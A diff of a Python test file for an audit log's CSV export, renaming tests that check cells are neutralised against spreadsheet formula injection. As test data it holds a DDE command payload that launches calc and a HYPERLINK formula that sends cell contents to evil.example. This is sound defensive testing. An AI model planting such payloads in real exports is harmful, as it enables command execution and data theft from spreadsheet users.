@@ -1,4 +1,4 @@
-"""The CSV export: one line a story, as the page lists them, and harmless in a spreadsheet (T71)."""
+"""The CSV export: one line per entry, as the page lists it, harmless in a spreadsheet (T71)."""
 
 import csv
 import io
@@ -45,7 +45,7 @@ def exported(as_auditor):
     return export
 
 
-def test_a_story_is_one_line_with_reason_ticket_and_ending_side_by_side(exported):
+def test_an_entry_is_one_line_with_reason_ticket_and_result_side_by_side(exported):
     head = event(
         alias="ping",
         session_id="ses_8f2",
@@ -84,7 +84,7 @@ def test_a_story_is_one_line_with_reason_ticket_and_ending_side_by_side(exported
     )
 
 
-def test_each_line_says_its_place_and_which_export_it_is_from(exported, auditor):
+def test_each_line_states_its_number_and_its_export(exported, auditor):
     for number in range(3):
         story("ok", session_id=f"ses_{number}")
 
@@ -100,17 +100,17 @@ def test_each_line_says_its_place_and_which_export_it_is_from(exported, auditor)
     )
 
 
-def test_an_empty_answer_is_the_columns_names_alone(as_auditor, exported):
+def test_an_export_of_nothing_is_the_column_names_alone(as_auditor, exported):
     assert exported("?actor=nobody") == []
     assert as_auditor.get("/audit/export.csv?actor=nobody").getvalue().startswith(b'"seq","at",')
 
 
 @pytest.mark.parametrize("beginning", FORMULAS, ids=ascii)
-def test_no_cell_begins_a_formula_whatever_stands_before_it(beginning):
+def test_no_cell_begins_a_formula_whatever_comes_before_it(beginning):
     assert harmless(f"{beginning}cmd|' /C calc'!A0").startswith("'")
 
 
-def test_hostile_words_come_back_as_text_in_one_cell(exported):
+def test_hostile_text_stays_text_in_one_cell(exported):
     hostile = '=HYPERLINK("http://evil.example/?x="&A1;"click"),\'; =1+1'
     texts = dict.fromkeys(["session_id", "client", "reason", "ticket"], hostile)
     head = event(alias="ping", **texts)
@@ -145,12 +145,12 @@ def test_a_person_cannot_name_themselves_a_formula(exported):
 @pytest.mark.parametrize(
     "text", ["Customer approved", "a = b", "x-y", "1;2", "", "ses_8f2", "é", "#1", "a; b"]
 )
-def test_harmless_words_stay_as_they_are(text):
+def test_harmless_text_is_not_changed(text):
     assert harmless(text) == text
 
 
 @given(st.text(max_size=30))
-def test_whatever_is_written_reads_back_as_one_harmless_cell(text):
+def test_any_text_reads_back_as_one_harmless_cell(text):
     written = io.StringIO()
     csv.writer(written, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(
         [harmless(text), "next"]
